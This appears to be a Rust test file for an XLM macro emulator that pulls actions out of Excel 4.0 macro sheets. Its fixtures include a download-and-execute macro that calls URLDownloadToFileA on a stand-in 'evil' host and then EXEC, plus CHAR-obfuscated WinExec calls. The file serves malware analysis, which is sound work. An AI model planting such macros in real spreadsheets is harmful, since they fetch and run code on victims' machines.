use xlmulator_common::Value;

use crate::actions::{Action, ActionKind};
use crate::test_sheet::{SheetBuilder, coord};

fn actions_of(cells: &[(&str, &str)]) -> Vec<Action> {
    let mut engine = SheetBuilder::new().formulas(cells.iter().copied()).engine();
    let summary = engine.evaluate_all();
    assert!(summary.is_clean(), "{:?}", summary.failures);
    engine.actions()
}

#[test]
fn download_and_execute_macro() {
    let actions = actions_of(&[
        ("A1", "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://evil/x.exe\",\"C:\\x.exe\",0,0)"),
        ("A2", "=EXEC(\"C:\\x.exe\")"),
        ("A3", "=HALT()"),
    ]);
    assert_eq!(
        actions,
        vec![
            Action::new(
                ActionKind::Call,
                "URLDownloadToFileA(0, http://evil/x.exe, C:\\x.exe, 0, 0)"
            )
            .with_note("From DLL 'urlmon'"),
            Action::new(ActionKind::Exec, "C:\\x.exe"),
            Action::new(ActionKind::Halt, "HALT"),
        ]
    );
}

#[test]
fn file_output_and_input_tags() {
    let actions = actions_of(&[
        ("A1", "=FOPEN(\"C:\\a.vbs\",3)"),
        ("A2", "=ALERT(\"done\",2)"),
        ("A3", "=INPUT(\"name?\")"),
        ("A4", "=CLOSE()"),
    ]);
    let tuples: Vec<_> = actions.iter().map(Action::as_tuple).collect();
    assert_eq!(
        tuples,
        vec![
            ("FILE", "FOPEN(C:\\a.vbs, 3)", ""),
            ("OUTPUT", "ALERT(done, 2)", ""),
            ("INPUT", "INPUT(name?)", ""),
            ("HALT", "CLOSE", ""),
        ]
    );
}

#[test]
fn call_arguments_built_from_char_chains() {
    let actions = actions_of(&[
        ("B1", "=CHAR(75)&\"ernel32\""),
        ("A1", "=CALL(B1,\"WinExec\",\"JCJ\",CHAR(99)&\"alc\",0)"),
    ]);
    assert_eq!(actions.len(), 1);
    assert_eq!(
        actions[0].as_tuple(),
        ("CALL", "WinExec(calc, 0)", "From DLL 'Kernel32'")
    );
}

#[test]
fn extraction_does_not_touch_the_sheet() {
    let mut engine = SheetBuilder::new().formula("A1", "=EXEC(\"calc\")").engine();
    engine.evaluate_all();
    let before = engine.value_dump();
    let first = engine.actions();
    assert_eq!(engine.actions(), first);
    assert_eq!(engine.value_dump(), before);
    assert_eq!(
        engine.sheet().value(coord("A1")),
        Some(&Value::from("ACTION: EXEC: calc"))
    );
}

#[test]
fn plain_values_yield_no_actions() {
    assert!(actions_of(&[("A1", "=\"ACTION\"&\"S\""), ("A2", "=1+1")]).is_empty());
}
